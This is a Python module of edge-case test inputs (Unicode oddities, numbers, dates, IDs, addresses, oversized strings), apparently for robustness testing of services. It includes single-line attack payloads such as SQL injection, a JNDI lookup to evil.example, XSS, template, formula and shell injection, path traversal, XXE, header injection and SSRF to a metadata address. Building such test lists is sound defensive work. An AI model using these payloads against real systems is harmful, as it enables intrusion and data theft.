"""Values that break services: each has broken one somewhere."""

from typing import Any

LONG = 10_000

TEXTS: list[str] = [
    # Nothing, and what looks like nothing
    "", " ", "\t", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "null", "None", "nil", "undefined", "NaN", "true", "false",
    # What text columns and UTF-8 cannot hold
    "\x00", "a\x00b", "\ud800", "\udfff", "a\udc00b", "%00", "\\u0000", "\x01\x02\x1b[31m", "\x7f", "\x85", "\u2028", "\u2029",
    # Direction, look-alikes, combining, width, emoji
    "\u202eevil", "\u2066x\u2069", "\u0430dmin", "e\u0301", "\u1e9b\u0323", "Z\u0351\u036b\u0343\u036a", "\u0301" * 500,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0001f1ec\U0001f1e7", "\ufdfa", "\u0130", "\u00df", "\uff21\uff22", "\u3164",
    "\U000e0041", "\U0010ffff", "\ufffe", "\uffff", "\u0661\u0662\u0663", "\u00b2", "\u2167", "\u4e09",
    # SQL
    "'", "''", '"', "\\", "\\'", "' OR '1'='1", "'; DROP TABLE customers; --", "1; SELECT pg_sleep(10)", "%", "_", "%%", "%s",
    "%(x)s", "{}", "{0}", "{x.__class__}", "${jndi:ldap://evil.example/a}", "$1", "$$", ":x", "?", "--", "/*", "*/", ";",
    "') UNION SELECT password FROM users --", "1' AND SLEEP(5)#", "' || pg_sleep(5) || '",
    # Search and patterns
    "a:*", "!a", "a & b", "a | b", "(a", "a)", "<->", "a <-> b", "'a':*", "&&", "||", "*", "**", ".*", "(a+)+$", "[", "]", "^",
    "$", "(?:", "\\d", "a\\", "@@", ":", "::text",
    # Markup, templates, spreadsheets, shells, paths, other protocols
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{7*7}}", "{% debug %}", "<%= 1 %>", "${7*7}", "#{7*7}",
    "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "$(reboot)", "`reboot`", "; ls", "| ls", "../../etc/passwd",
    "..\\..\\windows", "/etc/passwd", "file:///etc/passwd", "javascript:alert(1)", "\r\nSet-Cookie: a=b", "a\r\nBcc: x@y.example",
    "%0d%0aX: y", "&lt;", "<!--", "]]>", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
    # Numbers
    "0", "-0", "00", "+1", "-1", "1.5", "1,5", "1e3", "1e400", "-1e400", "1e-400", "0x10", "0b1", "1_000", " 1", "1 ", "01",
    "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "18446744073709551616",
    "1000000000000", "9" * 100, "9" * 5_000, "0." + "1" * 100, "Infinity", "-Infinity", "inf", "nan", "sNaN", "1/3", "0.1e1",
    "99999999999.99", "10000000000.00", "0.001", "0.005",
    # Times
    "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-1-1", "20260101", "2026-W01-1",
    "1900-01-01T00:00:00Z", "9999-12-31T23:59:59.999999Z", "2026-01-01T25:00:00Z", "2026-01-01T00:00:00+99:99",
    "2026-01-01T00:00:00", "2026-06-30T23:59:60Z", "0001-01-01T00:00:00+23:59", "12:60", "24:00", "now", "infinity", "-infinity",
    "epoch",
    # Ids, sorts, cursors
    "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "{00000000-0000-0000-0000-000000000000}",
    "urn:uuid:00000000-0000-0000-0000-000000000000", "00000000000000000000000000000000", "password", "-id", "-id;drop", "id,name",
    "merchant__name", "customer__merchant__slug", "search", "__class__", "__proto__", "constructor", "a" * 33,
    "AAAA", "eyJhIjoxfQ==", "////", "====", "W10", "WzFd", "AAAAAAAAAAAAAAAAbnVsbA",
    # Addresses
    "a@b", "@", "a@", "@b", "a@b@c", "a@[127.0.0.1]", "a@xn--", "a@\u00fc.example", '"a b"@c.example', "a@" + "b." * 120 + "c",
    "+", "+4", "+44", "+" + "1" * 30, "tel:+442071838750", "+44 20 7183 8750 ext 5", "0044", "911", "http://127.0.0.1:9/",
    "http://[::1]:9", "http://169.254.169.254/latest", "http://user:pass@example.com", "ftp://example.com", "//example.com",
    "http://", "https://\u2603.example", "http://example.com:99999", "http://example.com\\@127.0.0.1",
    # Size
    "a" * 101, "a" * 256, "a" * 5_001, "a" * LONG, "\u20ac" * 3_000, "a," * 200, "," * 50, "a b " * 500, "[" * 100,
    '{"a":' * 50,
]  # fmt: skip

VALUES: list[Any] = [
    None, True, False, 0, -0.0, 1, -1, 1.5, 0.1, 1e-300, 1e300, -1e300, 2**31 - 1, 2**31, -(2**31) - 1, 2**53 + 1, 2**63 - 1,
    2**63, 2**64, 10**30, -(10**30), [], {}, [[]], [{}], [None], [""], [1], ["a"], ["a"] * 1_000, {"": ""}, {"a": None},
    {"a": {"b": {"c": []}}}, {"$gt": ""}, {"__proto__": {"a": 1}}, {"id": 1}, [True], [0.1], {"a": "\x00"}, ["\ud800"],
    {"k" * 300: 1}, {"a\x00": 1}, [[[[[[[[[[]]]]]]]]]], {"amount": "1"}, {"type": "x"},
]  # fmt: skip

assert len(set(TEXTS)) == len(TEXTS)
assert len(TEXTS) >= 150
